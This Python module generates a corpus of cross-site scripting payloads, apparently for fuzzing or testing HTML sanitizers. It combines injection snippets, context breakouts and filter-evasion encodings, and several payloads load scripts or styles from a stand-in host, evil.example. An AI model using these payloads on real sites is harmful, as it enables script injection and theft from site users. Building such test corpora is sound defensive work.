"""Words that are not meant well, by rule: what would run, in what it would have to break out of, however spelt."""

import random
from itertools import product

CALL = "alert(1)"
# What would run by itself, or when somebody touches it.
RUNS = {
    "script": f"<script>{CALL}</script>",
    "script from elsewhere": "<script src=//evil.example/x.js></script>",
    "image": f"<img src=x onerror={CALL}>",
    "drawing": f"<svg onload={CALL}>",
    "animation": f"<svg><animate onbegin={CALL} attributeName=x dur=1s></svg>",
    "foreign": f"<math><mtext><style><img src=x onerror={CALL}></style></mtext></math>",
    "frame": f"<iframe srcdoc='&lt;script&gt;{CALL}&lt;/script&gt;'></iframe>",
    "frame of script": f"<iframe src=javascript:{CALL}></iframe>",
    "link": f"<a href=javascript:{CALL}>here</a>",
    "link of data": f"<a href='data:text/html,<script>{CALL}</script>'>here</a>",
    "form": f"<form action=javascript:{CALL}><button>here</button></form>",
    "field": f"<input autofocus onfocus={CALL}>",
    "details": f"<details open ontoggle={CALL}>",
    "film": f"<video><source onerror={CALL}></video>",
    "object": f"<object data=javascript:{CALL}></object>",
    "base": "<base href=//evil.example/>",
    "refresh": "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "sheet": "<link rel=stylesheet href=//evil.example/x.css>",
    "style": "<style>*{display:none}</style>",
    "attribute": f"onmouseover={CALL} autofocus onfocus={CALL} x=",
    "address": f"javascript:{CALL}",
    "template": f"{{{{7|add:7}}}}{{% load x %}}{{% debug %}}${{{CALL}}}",
}
# Where it could stand, and would have to get out of.
OUT_OF = {
    "nothing": "{}",
    "an attribute": '"> {}',
    "a quoted attribute": "'> {}",
    "an attribute's value": '" {} "',
    "a script": "</script>{}",
    "a script's string": "\\';{}//",
    "a title": "</title></textarea></style>{}",
    "a remark": "-->{}<!--",
    "a list": "</p></li></ul></main>{}",
    "data": "]]>{}<![CDATA[",
}
# How it could be written, so that whoever looks for it does not see it.
SPELT = {
    "plainly": lambda said: said,
    "loudly": lambda said: said.swapcase(),
    "with gaps": lambda said: said.replace("<", "<\x0c").replace("=", "\t=\n"),
    "as entities": lambda said: said.replace("<", "&lt;").replace(">", "&#62;").replace(":", "&colon;"),
    "nested": lambda said: said.replace("<s", "<s<script></script>", 1),
    "turned round": lambda said: f"\u202e\u2066{said}\u200b",
    "wide": lambda said: said.translate({ord(a): ord(a) + 0xFEE0 for a in "<>\"'"}),
    "in percent": lambda said: said.replace("<", "%3C").replace(">", "%3E"),
}
CORPUS = tuple(
    dict.fromkeys(
        spell(around.replace("{}", run))
        for (_, run), (_, around), (_, spell) in product(RUNS.items(), OUT_OF.items(), SPELT.items())
    )
)
SOME = random.Random(4).sample(CORPUS, 400)
SCHEMES = (
    *("javascript:", "JaVaScRiPt:", "java\tscript:", "vbscript:", "data:text/html,"),
    *("//evil.example/", "\\\\evil.example/", "https:javascript:", "blob:https://evil.example/"),
)
ADDRESSES = [
    f"{before}{scheme}{rest}"
    for before in ("", " ", "\t", "\x01", "\u2028")
    for scheme in SCHEMES
    for rest in (f"{CALL}//", f"%0a{CALL}", f'"onmouseover="{CALL}')
]
